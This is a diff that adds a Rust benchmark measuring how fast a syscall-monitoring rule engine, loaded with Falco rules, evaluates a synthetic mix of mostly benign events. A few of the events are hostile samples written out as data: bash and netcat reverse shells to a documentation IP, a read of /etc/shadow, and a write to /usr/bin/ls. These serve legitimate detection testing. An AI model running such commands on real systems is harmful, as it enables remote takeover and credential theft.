@@ -1,0 +1,264 @@
+//! Rule engine throughput: the default ruleset (`rules/`) plus Falco's stable ruleset,
+//! evaluated on a recorded mix of a few hundred JSON events (exec, open, connect,
+//! fork, exit; host and container; mostly benign, a few malicious), pre-parsed into
+//! `JsonEvent`s. Run: `cargo bench -p monitor --bench engine`.
+use std::{hint::black_box, path::PathBuf};
+
+use criterion::{Criterion, Throughput, criterion_group, criterion_main};
+use monitor::rules::{Engine, JsonEvent, Scratch};
+use serde_json::{Value, json};
+
+const FALCO_RULES: &str = concat!(
+    env!("CARGO_MANIFEST_DIR"),
+    "/../../shared/falco-rules/falco_rules.yaml"
+);
+
+fn engine() -> Engine {
+    let rules = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules"));
+    Engine::load_paths(&[rules, PathBuf::from(FALCO_RULES)]).unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// A small deterministic generator, so every run sees the same mix.
+struct Lcg(u64);
+
+impl Lcg {
+    fn next(&mut self) -> u64 {
+        self.0 = self
+            .0
+            .wrapping_mul(6364136223846793005)
+            .wrapping_add(1442695040888963407);
+        self.0 >> 33
+    }
+    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
+        &items[self.next() as usize % items.len()]
+    }
+}
+
+fn container(i: u64) -> Value {
+    match i % 4 {
+        0 => json!({"id": "host", "name": "host"}),
+        1 => json!({"id": "4f2a6b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a",
+                    "short_id": "4f2a6b0c9d8e", "runtime": "docker", "name": "web",
+                    "image": "nginx:1.25", "image_repository": "nginx", "image_tag": "1.25",
+                    "labels": {}, "privileged": false}),
+        2 => json!({"id": "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b",
+                    "short_id": "9a8b7c6d5e4f", "runtime": "docker", "name": "api",
+                    "image": "python:3.12-slim", "image_repository": "python",
+                    "image_tag": "3.12-slim", "labels": {"app": "api"}, "privileged": false}),
+        _ => json!({"id": "1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c",
+                    "short_id": "1b2c3d4e5f6a", "runtime": "docker", "name": "worker",
+                    "image": "registry.example.net/ops/worker:3",
+                    "image_repository": "registry.example.net/ops/worker", "image_tag": "3",
+                    "labels": {}, "privileged": false}),
+    }
+}
+
+fn process(pid: u64, argv: &[&str], exepath: &str, tty: u64) -> Value {
+    let name = exepath.rsplit('/').next().unwrap_or("x");
+    json!({
+        "pid": pid, "ppid": pid - 1, "name": name, "exe": argv[0], "exepath": exepath,
+        "args": &argv[1..], "cmdline": format!("{name} {}", argv[1..].join(" ")),
+        "cwd": "/", "tty": tty, "sid": pid, "vpid": pid % 300 + 2, "uid": 0,
+        "user": "root", "gid": 0, "group": "root", "euid": 0, "loginuid": null,
+        "exec_id": format!("{pid}-1"), "start_boot_ns": 5_000_000_000u64 + pid,
+    })
+}
+
+fn ancestors(i: u64) -> Value {
+    if i.is_multiple_of(4) {
+        json!([{"pid": 800, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"},
+               {"pid": 700, "name": "sshd", "exe": "sshd", "exepath": "/usr/sbin/sshd", "cmdline": "sshd: admin"},
+               {"pid": 1, "name": "systemd", "exe": "/sbin/init", "exepath": "/usr/lib/systemd/systemd", "cmdline": "systemd"}])
+    } else {
+        json!([{"pid": 900, "name": "sh", "exe": "/bin/sh", "exepath": "/bin/dash", "cmdline": "sh /entrypoint.sh"},
+               {"pid": 850, "name": "containerd-shim", "exe": "/usr/bin/containerd-shim-runc-v2",
+                "exepath": "/usr/bin/containerd-shim-runc-v2", "cmdline": "containerd-shim -namespace moby"}])
+    }
+}
+
+/// The recorded mix: ~45% opens, 20% execs, 15% connects, 10% forks, 10% exits.
+fn events() -> Vec<Value> {
+    let mut rng = Lcg(42);
+    let benign_exec: &[(&[&str], &str)] = &[
+        (&["ls", "-l", "/"], "/usr/bin/ls"),
+        (&["cat", "/etc/hostname"], "/usr/bin/cat"),
+        (&["sleep", "5"], "/usr/bin/sleep"),
+        (&["nginx", "-g", "daemon off;"], "/usr/sbin/nginx"),
+        (&["python3", "app.py"], "/usr/local/bin/python3.12"),
+        (&["grep", "-q", "x", "/tmp/f"], "/usr/bin/grep"),
+        (&["date", "+%s"], "/usr/bin/date"),
+        (
+            &["runc", "--root", "/run/runc", "state", "4f2a"],
+            "/usr/bin/runc",
+        ),
+    ];
+    let benign_open: &[(&str, u64)] = &[
+        ("/etc/hostname", 0),
+        ("/etc/passwd", 0o2000000),
+        ("/usr/lib/x86_64-linux-gnu/libc.so.6", 0o2000000),
+        ("/tmp/out.log", 0o1101),
+        ("/var/log/nginx/access.log", 0o2101),
+        ("/proc/self/status", 0),
+        ("/etc/ld.so.cache", 0o2000000),
+        ("/usr/share/zoneinfo/UTC", 0),
+        ("/app/static/index.html", 0),
+        ("/sys/fs/cgroup/memory.max", 0),
+    ];
+    let benign_connect: &[(&str, u64)] = &[
+        ("10.0.0.8", 443),
+        ("10.96.0.10", 53),
+        ("127.0.0.1", 8080),
+        ("10.0.0.9", 80),
+        ("10.0.0.5", 5432),
+    ];
+    let mut out = Vec::new();
+    for i in 0..400u64 {
+        let pid = 1000 + i * 3;
+        let ctr = container(i);
+        let anc = ancestors(i);
+        let common = |kind: &str, comm: &str| {
+            json!({"kind": kind, "time": "2025-03-01T12:00:00.000000000Z",
+                   "boot_ns": 9_000_000_000u64 + i, "pid": pid, "tid": pid, "comm": comm,
+                   "cgroup_id": 4242})
+        };
+        let roll = rng.next() % 100;
+        // One event in 25 is malicious.
+        let malicious = i % 25 == 7;
+        let mut ev = if roll < 45 {
+            let (path, flags) = if malicious {
+                *rng.pick(&[("/etc/shadow", 0u64), ("/usr/bin/ls", 0o1101)])
+            } else {
+                *rng.pick(benign_open)
+            };
+            let mut e = common("open", "cat");
+            let m = e.as_object_mut().unwrap();
+            m.insert("syscall".into(), json!("openat"));
+            m.insert("path".into(), json!(path));
+            m.insert("resolved_path".into(), json!(path));
+            m.insert("dirfd".into(), json!(-100));
+            m.insert("flags".into(), json!(flags));
+            m.insert("mode".into(), json!(0o644));
+            m.insert("result".into(), json!(3));
+            m.insert("fd".into(), json!(3));
+            m.insert("uid".into(), json!(0));
+            m.insert(
+                "process".into(),
+                process(pid, &["cat", path], "/usr/bin/cat", 0),
+            );
+            e
+        } else if roll < 65 {
+            let (argv, exepath): (&[&str], &str) = if malicious {
+                *rng.pick(&[
+                    (
+                        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"][..],
+                        "/usr/bin/bash",
+                    ),
+                    (
+                        &["apt-get", "install", "-y", "nmap"][..],
+                        "/usr/bin/apt-get",
+                    ),
+                    (
+                        &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"][..],
+                        "/usr/bin/nc",
+                    ),
+                ])
+            } else {
+                *rng.pick(benign_exec)
+            };
+            let mut e = common("exec", exepath.rsplit('/').next().unwrap());
+            let m = e.as_object_mut().unwrap();
+            m.insert("syscall".into(), json!("execve"));
+            m.insert("result".into(), json!(0));
+            m.insert("exe".into(), json!(exepath));
+            m.insert("args".into(), json!(argv));
+            m.insert("ppid".into(), json!(pid - 1));
+            m.insert("uid".into(), json!(0));
+            m.insert("process".into(), process(pid, argv, exepath, 0));
+            e
+        } else if roll < 80 {
+            let (addr, port) = if malicious {
+                ("198.51.100.20", 3333)
+            } else {
+                *rng.pick(benign_connect)
+            };
+            let mut e = common("connect", "nginx");
+            let m = e.as_object_mut().unwrap();
+            m.insert("fd".into(), json!(5));
+            m.insert("family".into(), json!("inet"));
+            m.insert("sock_type".into(), json!("stream"));
+            m.insert("address".into(), json!(addr));
+            m.insert("port".into(), json!(port));
+            m.insert("result".into(), json!(if i % 2 == 0 { 0 } else { -115 }));
+            m.insert("uid".into(), json!(101));
+            m.insert(
+                "process".into(),
+                process(pid, &["nginx: worker process"], "/usr/sbin/nginx", 0),
+            );
+            e
+        } else if roll < 90 {
+            let mut e = common("fork", "nginx");
+            let m = e.as_object_mut().unwrap();
+            m.insert("child_pid".into(), json!(pid + 1));
+            m.insert("child_tid".into(), json!(pid + 1));
+            m.insert("ppid".into(), json!(pid - 1));
+            m.insert(
+                "process".into(),
+                process(pid, &["nginx"], "/usr/sbin/nginx", 0),
+            );
+            e
+        } else {
+            let mut e = common("exit", "sleep");
+            let m = e.as_object_mut().unwrap();
+            m.insert("exit_code".into(), json!(0));
+            m.insert("ppid".into(), json!(pid - 1));
+            m.insert(
+                "process".into(),
+                process(pid, &["sleep", "5"], "/usr/bin/sleep", 0),
+            );
+            e
+        };
+        let m = ev.as_object_mut().unwrap();
+        m.insert("ancestors".into(), anc);
+        m.insert("container".into(), ctr);
+        out.push(ev);
+    }
+    out
+}
+
+fn bench(c: &mut Criterion) {
+    let engine = engine();
+    let values = events();
+    let parsed: Vec<JsonEvent<'_>> = values.iter().map(|v| JsonEvent::new(v).unwrap()).collect();
+    // Sanity: the mix does raise a few alerts, and most events raise none.
+    let mut scratch = Scratch::default();
+    let mut out = Vec::new();
+    let mut alerting = 0;
+    for e in &parsed {
+        engine.evaluate(e, &mut scratch, &mut out);
+        alerting += usize::from(!out.is_empty());
+    }
+    assert!(alerting > 0 && alerting < parsed.len() / 5, "{alerting}");
+    eprintln!(
+        "engine bench: {} active rules, {} events, {} raise an alert",
+        engine.rules().len(),
+        parsed.len(),
+        alerting
+    );
+
+    let mut group = c.benchmark_group("engine");
+    group.throughput(Throughput::Elements(parsed.len() as u64));
+    group.bench_function("evaluate_mix", |b| {
+        b.iter(|| {
+            let mut n = 0;
+            for e in &parsed {
+                engine.evaluate(black_box(e), &mut scratch, &mut out);
+                n += out.len();
+            }
+            black_box(n)
+        })
+    });
+    group.finish();
+}
+
+criterion_group!(benches, bench);
+criterion_main!(benches);
